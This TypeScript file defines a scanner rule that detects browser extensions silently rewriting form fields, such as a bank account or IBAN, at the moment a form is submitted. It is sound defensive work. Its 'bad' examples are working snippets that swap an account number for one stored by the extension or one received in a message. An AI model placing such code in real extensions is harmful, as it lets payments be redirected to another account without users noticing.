import {
  apiPath,
  calleeOf,
  callsNamed,
  literalText,
  nameOf,
  objectOf,
  Op,
  opOf,
  posOf,
  readsNamed,
  resolve,
  type ScriptFacts,
  writesOf,
} from '../../facts/javascript/query.ts';
import { defineRule } from '../../rule.ts';
import { checkScripts, contentExample } from './checkScripts.ts';
import { listenersOf } from './listeners.ts';
import { backwardSlice } from '../../program/backwardSlice.ts';
import { runsInPages } from './places.ts';
import { functionAt } from '../../program/functionAt.ts';
import { first } from '../../facts/first.ts';

export const submissionAltered = defineRule({
  id: 'submission-altered',
  title: 'Changes form data as it is submitted',
  severity: 'critical',
  confidence: 'medium',
  category: 'code',
  applies: 'extension',
  cwe: 'CWE-506',
  references: ['https://attack.mitre.org/techniques/T1185/', 'https://attack.mitre.org/techniques/T1565/'],
  why: 'Its code replaces a field’s value at the moment the form is sent. A payment can go to another account while the page still shows the right one.',
  remedy: 'Change form fields only where the user sees it before sending.',
  cap: { grade: 'D', reason: 'it changes what users submit', from: 'critical' },
  check: checkScripts(function* ({ script, file, facts, hit }) {
    if (!runsInPages(facts, file.path)) return;
    for (const { event, fn } of first(listenersOf(script, 'submit', 'formdata'), 50)) {
      const inside = (value: number): boolean => isWithin(script, fn, posOf(script, value));
      for (const write of first(writesOf(script, 'value'), 500))
        if (inside(write.value) && !isMade(script, write.object) && isForeign(script, write.value))
          yield hit(write.value);
      for (const call of event === 'formdata' ? first(callsNamed(script, 'set'), 100) : [])
        if (inside(call.value) && call.args.length === 2 && isForeign(script, call.args[1] ?? 0)) yield hit(call.value);
    }
  }),
  examples: {
    bad: [
      contentExample(
        'let mine = "DE02120300000000202051"; chrome.storage.sync.get("target", (r) => { mine = r.target || mine; }); document.addEventListener("submit", (e) => { e.target.querySelectorAll("input[name*=account]").forEach((field) => { if (field.value) field.value = mine; }); });',
      ),
      contentExample(
        'let to; chrome.runtime.onMessage.addListener((m) => { to = m.to; }); document.forms[0].addEventListener("formdata", (e) => { e.formData.set("iban", to); });',
      ),
    ],
    good: [
      contentExample(
        'document.addEventListener("submit", (e) => { e.target.querySelectorAll("input").forEach((field) => { field.value = field.value.trim(); }); });',
      ),
      contentExample(
        'document.querySelector("form").addEventListener("submit", () => { const field = document.querySelector("textarea"); field.value = encrypt(field.value, key); });',
      ),
      contentExample(
        'const box = document.createElement("form"); const text = document.createElement("input"); box.append(text); box.addEventListener("submit", (e) => { e.preventDefault(); save(text.value); text.value = ""; });',
      ),
      contentExample(
        'button.addEventListener("click", () => { chrome.storage.local.get("profile", ({ profile }) => { document.querySelector("#name").value = profile.name; }); });',
      ),
    ],
  },
});

/** Inside of a function, or of one that stands in it. */
function isWithin(script: ScriptFacts, fn: number, pos: number): boolean {
  const outer = script.functions[fn];
  return outer !== undefined && functionAt(script, pos) !== -1 && pos >= outer.start && pos < outer.end;
}

/** A field that the script made itself is no page's. */
const isMade = (script: ScriptFacts, element: number): boolean =>
  apiPath(script, resolve(script, element)) === 'document.createElement()';

/** Reads of what stands in a page. */
const READS = ['value', 'textContent', 'innerText', 'innerHTML', 'checked', 'dataset'];

/** Whether a value has nothing of the page in it, and is no mere blank: it was decided beforehand. */
function isForeign(script: ScriptFacts, value: number): boolean {
  const origins = backwardSlice(script, value);
  const read = new Set(readsNamed(script, ...READS));
  let decided = false;
  for (const one of origins) {
    if (read.has(one)) return false;
    const op = opOf(script, one);
    if (op === Op.constant) decided ||= literalText(script, one).length > 3;
    else if (
      op === Op.call &&
      /^(?:get|addListener|fetch|json|sendMessage)$/.test(nameOf(script, calleeOf(script, one)))
    )
      decided = true;
    else if (op === Op.member && opOf(script, objectOf(script, one)) === Op.ref) decided = true;
  }
  return decided;
}
